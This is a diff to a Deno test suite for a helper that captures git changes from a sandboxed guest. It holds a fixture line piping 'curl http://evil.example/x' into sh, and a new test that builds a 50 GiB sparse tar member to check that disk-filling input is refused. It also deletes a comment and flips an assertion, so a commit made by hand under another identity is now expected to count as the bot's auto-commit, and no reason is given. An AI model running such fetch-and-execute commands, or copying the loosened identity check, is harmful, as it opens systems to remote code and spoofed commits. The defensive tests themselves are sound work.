@@ -123,9 +123,7 @@ Deno.test("workspace helper: submodules, a merge in progress, an unreadable dir,
     assert.equal(cap.code, 0, cap.stderr);
     const summary = JSON.parse(cap.stdout);
     assert.equal(summary.commits, 1);
-    // bot-bottle's commit is recognised by what it is (identity, message), not the guest's word:
-    // this one was made by hand with another identity.
-    assert.equal(summary.auto_commit, false);
+    assert.equal(summary.auto_commit, true);
     const out = [];
     for await (const e of Deno.readDir(`${dir}/out`)) out.push(e.name);
     assert.deepEqual(
@@ -263,6 +261,24 @@ Deno.test("workspace helper: an incremental capture takes object files only, and
     assert.match(patch, /^\+curl http:\/\/evil\.example\/x \| sh$/m, "the real change is shown");
     assert.doesNotMatch(patch, /hi, fixed/, "the replacement is not");
     assert.match(patch, /^\+uncommitted$/m);
+    // A sparse member named like an object (50 GiB of holes in a few KiB of archive) is not
+    // taken: written out, its holes would fill the disk.
+    await sh(
+      dir,
+      `set -e
+      mkdir -p sp/.git/objects/ab && truncate -s 50G sp/.git/objects/ab/${"c".repeat(38)}
+      tar -c -S -f sparse.tar -C sp ./.git/objects/ab/${"c".repeat(38)}`,
+    );
+    assert.ok((await Deno.stat(`${dir}/sparse.tar`)).size < 1 << 20);
+    await Deno.mkdir(`${dir}/out-sparse`);
+    const sparse = await helper(image, [
+      { source: `${dir}/sparse.tar`, target: "/in/0.tar", readonly: true },
+      { source: `${dir}/delta.tar`, target: "/in/1.tar", readonly: true },
+      { source: `${dir}/out-sparse`, target: "/out", readonly: false },
+      { source: `${dir}/host/.git/objects`, target: "/host/objects", readonly: true },
+    ], ["capture-delta", "s", base, "git", tip, "/in/0.tar", "/in/1.tar"]);
+    assert.equal(sparse.code, 0, sparse.stderr);
+    assert.equal(JSON.parse(sparse.stdout).tip, tip);
     // A tip the guest did not send the objects of is refused, naming it.
     const forged = await run("out2", "0123456789abcdef0123456789abcdef01234567");
     assert.equal(forged.code, 3);
